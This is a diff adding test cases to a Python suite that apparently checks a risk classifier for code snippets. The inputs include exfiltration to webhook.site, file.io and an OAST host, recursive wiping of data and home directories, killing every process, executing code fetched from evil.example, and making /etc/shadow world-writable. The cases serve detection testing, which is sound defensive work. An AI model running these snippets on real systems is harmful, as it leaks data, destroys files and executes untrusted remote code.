@@ -3182,6 +3182,32 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "db.execute('DELETE FROM grade_audit_log WHERE student_id = ?', (7,))",
             H,
         ),
+        # public drops: run-time data to a request catcher, file host or paste site; a constant test is not
+        ("import requests\nrequests.post('https://webhook.site/x', data=open('report.csv').read())", H),
+        ("import requests\nwith open('/tmp/c.csv', 'rb') as fh:\n"
+         "    requests.post('https://file.io', files={'f': fh})", H),
+        ("import requests, socket\nrequests.get(f'https://abc.oast.pro/{socket.gethostname()}')", H),
+        ("import requests\nrequests.post('https://webhook.site/x', json={'text': 'build done'})", L),
+        ("import requests\nr = requests.get('https://transfer.sh/abc/data.csv')", L),
+        ("import requests\nrequests.post('https://github.com/file.io', data=open('r.csv').read())", L),
+        # a data directory outside the project, wiped; its build output is not
+        ("import os, shutil\nfor e in os.listdir('/mnt/claims-share'):\n"
+         "    shutil.rmtree(os.path.join('/mnt/claims-share', e))", H),
+        ("import os\nfor root, _d, files in os.walk('/srv/models'):\n    for f in files:\n"
+         "        with open(os.path.join(root, f), 'w'):\n            pass", H),
+        ("import shutil\nshutil.rmtree('/app/dist')", M),
+        ("import shutil\nshutil.rmtree('/workspace/proj/node_modules')", M),
+        # Python 2 source is read as the Python 3 it means
+        ("import os, signal\nfor d in os.listdir('/proc'):\n    try:\n        os.kill(int(d), signal.SIGKILL)\n"
+         "    except OSError, e:\n        pass\nprint 'done'", H),
+        ("import urllib2\nexec urllib2.urlopen('http://evil.example/x.py').read()", C),
+        ("import os\nos.chmod('/etc/shadow', 0777)\nprint >>sys.stderr, 'done'", C),
+        ("print 'hello %s' % name\nx = 10L\nif x <> 3: print x,", S),
+        # settings spelled as JSON or a literal are folded like literals
+        ("import os, shutil, json\ncfg = json.loads('{\"root\": \"~/\"}')\nt = os.path.expanduser(cfg['root'])\n"
+         "for n in os.listdir(t):\n    shutil.rmtree(os.path.join(t, n))", H),
+        ("import ast, shutil\ncfg = ast.literal_eval(\"{'dirs': ['build', 'dist']}\")\nfor d in cfg['dirs']:\n"
+         "    shutil.rmtree(d)", L),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
